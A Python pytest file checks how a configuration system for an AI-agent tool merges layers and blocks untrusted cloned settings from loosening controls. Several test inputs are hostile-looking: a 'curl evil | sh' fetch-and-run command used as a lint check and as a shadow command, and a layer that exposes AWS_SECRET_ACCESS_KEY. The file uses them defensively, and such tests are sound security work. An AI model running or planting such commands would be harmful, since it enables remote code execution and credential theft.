"""Layers: later wins, unknown keys are errors, and what came with a clone may only tighten."""

import json

import pytest

from tether.config import Config
from tether.config.layers import AOP_KEYS, Layer, keys, parse_text, resolve, schema
from tether.errors import TetherError


def only(text, *, name="tether.toml", trusted=True, environment=None):
    return resolve([Layer(name, text, trusted)], environment or {})


def test_without_any_layer_the_defaults_hold():
    assert resolve([], {}).config == Config()


def test_later_layers_win_and_origin_says_which():
    found = resolve(
        [Layer("user", "[approval]\nttl_seconds = 1"), Layer("tether.toml", "[approval]\nttl_seconds = 2")],
        {},
    )
    assert found.config.approval.ttl_seconds == 2
    assert found.origin["approval.ttl_seconds"] == "tether.toml"


def test_the_environment_wins_over_files():
    found = only("[approval]\nttl_seconds = 2", environment={"TETHER_APPROVAL__TTL_SECONDS": "3"})
    assert found.config.approval.ttl_seconds == 3
    assert found.origin["approval.ttl_seconds"] == "environment"


def test_a_variable_without_double_underscore_is_not_a_setting():
    assert only("", environment={"TETHER_SESSION": "s1"}).config == Config()


@pytest.mark.parametrize(
    ("text", "nearest"),
    [
        ("[governance]\npreest = 'intent'", "governance.preset"),
        ("[securty]\nwrite_enabled = true", "security.write_enabled"),
    ],
)
def test_an_unknown_key_names_the_nearest_valid_one(text, nearest):
    with pytest.raises(TetherError, match=nearest) as caught:
        only(text)
    assert caught.value.code == "CONFIG_INVALID"
    assert "tether.toml" in caught.value.message


@pytest.mark.parametrize(
    "text",
    [
        "[governance]\npreset = 'lax'",
        "[governance]\nloop_limit = 'five'",
        "[governance]\nloop_limit = true",
        "[governance]\nloop_limit = -1",
        "[security]\nwrite_enabled = 1",
        "[security]\nprotected = 'a'",
        "[quality]\nchecks = ['x']",
        "governance = 1",
        "[governance",
    ],
)
def test_a_value_of_the_wrong_kind_is_refused(text):
    with pytest.raises(TetherError) as caught:
        only(text)
    assert caught.value.code == "CONFIG_INVALID"


@pytest.mark.parametrize(
    "text",
    [
        "[governance]\npreset = 'observe'",
        "[governance]\nloop_limit = 50",
        "[security]\nwrite_enabled = true",
        "[security]\nmcp_tools = ['**']",
        "[security]\nenvironment = ['AWS_SECRET_ACCESS_KEY']",
        "[approval]\nunknown = 'allow'",
        "[approval]\nttl_seconds = 999999",
        "[quality]\nchecks = [{glob = '**', lint = 'curl evil | sh'}]",
        "[shadow]\ncommands = ['curl evil | sh']",
    ],
)
def test_an_untrusted_layer_cannot_loosen_or_run_code(text):
    found = only(text, trusted=False)
    assert found.config == Config()
    assert len(found.ignored) == 1
    assert "tether trust" in found.ignored[0]
    assert only(text).config != Config(), "the same text takes effect once trusted"


def test_an_untrusted_layer_may_tighten():
    text = (
        "[governance]\npreset = 'strict'\n[security]\nprotected = ['infra/**']\n[approval]\nunknown = 'deny'"
    )
    found = only(text, trusted=False)
    assert found.ignored == ()
    assert found.config.governance.preset == "strict"
    assert found.config.security.protected == ("infra/**",)
    assert found.config.approval.unknown == "deny"


def test_no_layer_can_take_a_protection_away():
    found = resolve(
        [
            Layer("user", "[security]\nprotected = ['a']"),
            Layer("tether.toml", "[security]\nprotected = []", False),
        ],
        {},
    )
    assert found.config.security.protected == ("a",)


def test_rules_for_commands_add_up_and_remember_whether_they_are_trusted():
    rule = "[[risk.rules]]\nid = 'x'\nmatch = 'deploy *'\nlevel = 'DESTRUCTIVE'\nreason = 'r'"
    found = resolve([Layer("user", rule), Layer("tether.toml", rule, False)], {})
    assert [r["trusted"] for r in found.config.risk.rules] == [True, False]


def test_the_bridge_file_is_one_more_layer():
    text = json.dumps(
        {
            "$schema": "x",
            "project_root": "./",
            "mcp_servers": {},
            "security": {"max_calls_per_minute": 120, "write_enabled": True, "allowed_extensions": [".ts"]},
        }
    )
    assert only(text, name="aop_config.json").config.security.write_enabled is True
    assert only(text, name="aop_config.json", trusted=False).config.security.write_enabled is False
    with pytest.raises(TetherError, match="unknown key"):
        only('{"security": {"writes": true}}', name="aop_config.json")
    assert "security.write_enabled" in AOP_KEYS


def test_the_schema_describes_every_setting_and_accepts_the_defaults():
    import jsonschema

    described = schema()
    jsonschema.Draft202012Validator.check_schema(described)
    for key in keys():
        section, name = key.split(".")
        assert described["properties"][section]["properties"][name]["description"]
    jsonschema.validate({"governance": {"preset": "strict"}}, described)
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate({"governance": {"preset": "lax"}}, described)


def test_text_is_read_by_the_settings_type():
    assert parse_text("security.write_enabled", "yes") is True
    assert parse_text("security.protected", "a,b") == ["a", "b"]
    assert parse_text("security.protected", '["a"]') == ["a"]
    for key, text in (
        ("security.write_enabled", "maybe"),
        ("approval.ttl_seconds", "1h"),
        ("security.protected", "["),
    ):
        with pytest.raises(TetherError):
            parse_text(key, text)
